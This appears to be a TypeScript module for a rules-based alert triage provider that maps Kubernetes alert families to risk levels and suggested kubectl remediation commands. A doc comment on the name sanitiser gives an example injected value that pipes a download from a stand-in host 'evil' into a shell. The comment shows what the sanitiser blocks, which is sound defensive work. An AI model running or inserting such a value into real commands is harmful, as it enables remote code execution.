import { DNS1123_LABEL, DNS1123_SUBDOMAIN } from "../contracts/action.ts";
import type { NormalizedAlert } from "../contracts/alert.ts";
import type { DataImpact, Operation, Rca, RiskLevel } from "../contracts/rca.ts";
import type { SyncRcaProvider } from "../ports/rca-provider.ts";

/** Model name recorded on verdicts from the deterministic rules (last link of the provider chain). */
export const RULES_MODEL = "awoooi-rules-v1";

/**
 * Confidence of a rules verdict. Deliberately low: rules recognise the alert
 * family, not the actual cause, so the trust engine never auto-approves on them.
 */
const RULES_CONFIDENCE = 40;

interface Rule {
  readonly family: string;
  readonly matches: RegExp;
  readonly risk: RiskLevel;
  readonly dataImpact: DataImpact;
  readonly operation: Operation;
  readonly rootCause: string;
  readonly downtime: string;
  readonly command: (target: Target) => string;
  readonly description: string;
}

interface Target {
  readonly ns: string;
  readonly resource: string;
  readonly workload: string;
}

/** Alert families of seed 001 §3, most specific first. */
const RULES: readonly Rule[] = [
  {
    family: "crash-loop",
    matches: /crash.?loop/i,
    risk: "high",
    dataImpact: "none",
    operation: "ROLLBACK_DEPLOYMENT",
    rootCause:
      "The container exits shortly after start and Kubernetes keeps restarting it (CrashLoopBackOff): usually a bad release, missing configuration or secret, or a dependency refusing connections at start-up.",
    downtime: "1m",
    command: (t) => `kubectl rollout undo deployment/${t.workload} -n ${t.ns}`,
    description: "Roll the workload back to its previous revision, then read the crashed container's logs (kubectl logs --previous).",
  },
  {
    family: "image-pull",
    matches: /image.?pull|err.?image/i,
    risk: "medium",
    dataImpact: "none",
    operation: "INVESTIGATE",
    rootCause: "The node cannot pull the container image: wrong tag, deleted image, or missing registry credentials.",
    downtime: "0s",
    command: (t) => `kubectl describe pod ${t.resource} -n ${t.ns}`,
    description: "Check the image reference and the imagePullSecrets; no automatic action is safe here.",
  },
  {
    family: "pod-restart",
    matches: /pod.?restart|oom.?kill/i,
    risk: "medium",
    dataImpact: "none",
    operation: "DELETE_POD",
    rootCause: "A pod restarted unexpectedly, typically after being OOM-killed or failing its liveness probe.",
    downtime: "30s",
    command: (t) => `kubectl delete pod ${t.resource} -n ${t.ns}`,
    description: "Replace the pod so its controller starts a fresh one; watch whether the restarts continue.",
  },
  {
    family: "instance-down",
    matches: /instance.?down|target.?down|service.?down|unreachable/i,
    risk: "high",
    dataImpact: "none",
    operation: "RESTART_DEPLOYMENT",
    rootCause: "The scrape target stopped answering for over a minute: the process crashed, the host is down, or the network path is broken.",
    downtime: "2m",
    command: (t) => `kubectl rollout restart deployment/${t.workload} -n ${t.ns}`,
    description: "Restart the workload behind the target after checking the host itself is up.",
  },
  {
    family: "http-5xx",
    matches: /5\d\d|5xx|error.?rate|server.?error/i,
    risk: "high",
    dataImpact: "none",
    operation: "ROLLBACK_DEPLOYMENT",
    rootCause: "The service answers a rising share of 5xx responses: usually a recent deployment or a failing upstream dependency.",
    downtime: "1m",
    command: (t) => `kubectl rollout undo deployment/${t.workload} -n ${t.ns}`,
    description: "If a release went out recently, roll it back; otherwise check upstream dependencies.",
  },
  {
    family: "database-connection",
    matches: /postgres|mysql|database|\bdb\b|connection.?pool/i,
    risk: "high",
    dataImpact: "read_only",
    operation: "INVESTIGATE",
    rootCause: "Clients cannot get database connections: the database is down, its connection limit is exhausted, or credentials changed.",
    downtime: "5m",
    command: (t) => `kubectl get pods -n ${t.ns} -l app=${t.workload} -o wide`,
    description: "Check the database's health and active connections before restarting anything; restarts can make a pool storm worse.",
  },
  {
    family: "cache-connection",
    matches: /redis|memcache|cache/i,
    risk: "high",
    dataImpact: "read_only",
    operation: "INVESTIGATE",
    rootCause: "Clients cannot reach the cache: the cache server is down, out of memory, or refusing connections.",
    downtime: "5m",
    command: (t) => `kubectl get pods -n ${t.ns} -l app=${t.workload} -o wide`,
    description: "Check the cache server's memory and connection count before clearing or restarting it.",
  },
  {
    family: "certificate",
    matches: /cert|ssl|tls/i,
    risk: "medium",
    dataImpact: "none",
    operation: "RENEW_CERTIFICATE",
    rootCause: "A TLS certificate is about to expire or has expired: the automatic renewal did not run or failed.",
    downtime: "0s",
    command: (t) => `cmctl renew ${t.resource} -n ${t.ns}`,
    description: "Trigger renewal of the certificate and check the issuer's logs for why it did not renew on its own.",
  },
  {
    family: "cpu-pressure",
    matches: /cpu|throttl|load/i,
    risk: "medium",
    dataImpact: "none",
    operation: "SCALE_DEPLOYMENT",
    rootCause: "The workload needs more CPU than it is allowed: load grew, or a hot loop or runaway request appeared.",
    downtime: "0s",
    command: (t) => `kubectl scale deployment/${t.workload} -n ${t.ns} --replicas=<current+1>`,
    description: "Add one replica to spread the load, then look for the cause of the extra CPU use.",
  },
  {
    family: "memory-pressure",
    matches: /memory|\bmem\b|oom/i,
    risk: "medium",
    dataImpact: "none",
    operation: "INCREASE_MEMORY",
    rootCause: "The workload is close to its memory limit: a leak, a cache without bounds, or real growth in working set.",
    downtime: "1m",
    command: (t) => `kubectl set resources deployment/${t.workload} -n ${t.ns} --limits=memory=<current×1.5>`,
    description: "Raise the memory limit by at most 50% and compare the memory curve with recent releases.",
  },
  {
    family: "disk",
    matches: /disk|filesystem|volume|inode/i,
    risk: "medium",
    dataImpact: "write",
    operation: "INVESTIGATE",
    rootCause: "A filesystem is filling up: logs or temporary files growing without rotation, or real data growth.",
    downtime: "0s",
    command: (t) => `kubectl exec -n ${t.ns} ${t.resource} -- df -h`,
    description: "Find what grew before deleting anything; deleting data is never automatic.",
  },
  {
    family: "pipeline",
    matches: /pipeline|runner|job.?(fail|stuck|too.?long)/i,
    risk: "medium",
    dataImpact: "none",
    operation: "RERUN_PIPELINE",
    rootCause: "A CI/CD pipeline or job failed or is stuck: a flaky step, an offline runner, or a broken change.",
    downtime: "0s",
    command: (t) => `# re-run the failed pipeline for ${t.resource}`,
    description: "Re-run the pipeline once; if it fails the same way, the change itself is broken.",
  },
  {
    family: "vulnerability",
    matches: /vuln|cve|exploit|scan|intrusion|security/i,
    risk: "high",
    dataImpact: "none",
    operation: "PATCH_VULNERABILITY",
    rootCause: "A security scan found an exposed or vulnerable service.",
    downtime: "0s",
    command: (t) => `# patch or restrict ${t.resource} in ${t.ns}`,
    description: "Confirm the finding, then patch the component or close the exposed port.",
  },
  {
    family: "latency",
    matches: /latency|slow|response.?time/i,
    risk: "medium",
    dataImpact: "none",
    operation: "SCALE_DEPLOYMENT",
    rootCause: "Responses got slower: saturation of the service or of a dependency.",
    downtime: "0s",
    command: (t) => `kubectl scale deployment/${t.workload} -n ${t.ns} --replicas=<current+1>`,
    description: "Add capacity if the service is saturated; otherwise trace the slow dependency.",
  },
];

const RISK_ORDER: readonly RiskLevel[] = ["low", "medium", "high", "critical"];

/** Deterministic verdict for an alert, from its family. Never throws. */
export function rulesVerdict(alert: NormalizedAlert): Rca {
  const target = targetOf(alert);
  const haystack = `${alert.alert_type} ${alert.labels?.alertname ?? ""}`;
  const rule = RULES.find((candidate) => candidate.matches.test(haystack));
  if (!rule) return unknownFamily(alert, target);

  // A P0 alert is at least high risk whatever its family.
  const risk = alert.priority === "P0" ? maxRisk(rule.risk, "high") : rule.risk;
  return {
    root_cause: rule.rootCause,
    risk_level: risk,
    blast_radius: {
      affected_pods: alert.resource_type === "pod" ? 1 : 0,
      estimated_downtime: rule.downtime,
      related_services: alert.labels?.service ? [alert.labels.service] : [],
      data_impact: rule.dataImpact,
    },
    suggested_action: { operation: rule.operation, command: rule.command(target), description: rule.description },
    confidence: RULES_CONFIDENCE,
    dry_run_checks: [{ name: "Rule match", passed: true, message: `matched the ${rule.family} family` }],
    provider: "rules",
    model: RULES_MODEL,
  };
}

function unknownFamily(alert: NormalizedAlert, target: Target): Rca {
  return {
    root_cause: `No rule knows the alert family "${alert.alert_type}"; a human has to look at it.`,
    risk_level: alert.priority === "P0" || alert.priority === "P1" ? "high" : "medium",
    blast_radius: { affected_pods: 0, estimated_downtime: "unknown", related_services: [], data_impact: "none" },
    suggested_action: {
      operation: "INVESTIGATE",
      command: `kubectl get events -n ${target.ns} --field-selector involvedObject.name=${target.resource}`,
      description: "Investigate by hand; no automatic action is proposed for unknown alert families.",
    },
    confidence: 10,
    dry_run_checks: [{ name: "Rule match", passed: false, message: "no rule matched" }],
    provider: "rules",
    model: RULES_MODEL,
  };
}

/**
 * Names as they may appear in a command people copy: a label value that is
 * not a valid Kubernetes name (`a;curl evil|sh #`) is replaced by a
 * placeholder, so alert text never becomes shell syntax.
 */
function targetOf(alert: NormalizedAlert): Target {
  const ns = safeName(alert.namespace ?? "default", DNS1123_LABEL, 63, "<namespace>");
  const raw = alert.target_resource ?? alert.alert_type;
  const resource = safeName(raw, DNS1123_SUBDOMAIN, 253, "<resource>");
  const workload = alert.resource_type === "pod" ? safeName(workloadOfPod(raw), DNS1123_SUBDOMAIN, 253, "<deployment>") : resource;
  return { ns, resource, workload };
}

function safeName(name: string, pattern: RegExp, max: number, placeholder: string): string {
  return name.length <= max && pattern.test(name) ? name : placeholder;
}

/** `api-7d4b8c9f5-xk2m3` → `api`: a Deployment's pods carry a ReplicaSet hash and a pod suffix. */
export function workloadOfPod(pod: string): string {
  const match = /^(.+)-[a-z0-9]{5,10}-[a-z0-9]{5}$/.exec(pod);
  return match?.[1] ?? pod;
}

function maxRisk(a: RiskLevel, b: RiskLevel): RiskLevel {
  return RISK_ORDER.indexOf(a) >= RISK_ORDER.indexOf(b) ? a : b;
}

/** The rules as the last link of the provider chain: always answers. */
export const rulesProvider: SyncRcaProvider = {
  name: "rules",
  async analyze(_prompt, alert) {
    const { provider: _provider, model, ...verdict } = rulesVerdict(alert);
    return { ok: true, verdict, model };
  },
};
